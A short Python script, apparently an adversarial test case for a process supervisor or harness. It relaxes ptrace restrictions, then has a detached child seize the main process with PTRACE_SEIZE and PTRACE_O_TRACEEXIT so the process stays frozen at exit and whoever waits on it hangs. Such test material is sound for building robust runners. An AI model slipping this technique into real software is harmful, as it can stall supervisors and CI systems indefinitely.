# Attacks whoever waits for the main process: a child traces it, holds it at its end and never lets go.
import ctypes
import os
import time

import stage

PTRACE_SEIZE, PTRACE_INTERRUPT, PTRACE_O_TRACEEXIT = 0x4206, 0x4207, 0x40  # linux/ptrace.h
PR_SET_PTRACER = 0x59616D61  # linux/prctl.h


def trace(pid):
    os.setsid()
    stage.ignore_signals()
    stage.libc.ptrace.argtypes = [ctypes.c_long] * 4
    stage.libc.ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEEXIT)
    stage.begun()
    stage.sleep()


stage.serve_beside()
stage.wait_for_go()
stage.libc.prctl(PR_SET_PTRACER, ctypes.c_ulong(-1), 0, 0, 0)
stage.child(trace, os.getpid())
while not stage.has_begun():
    time.sleep(0.02)
stage.sleep()
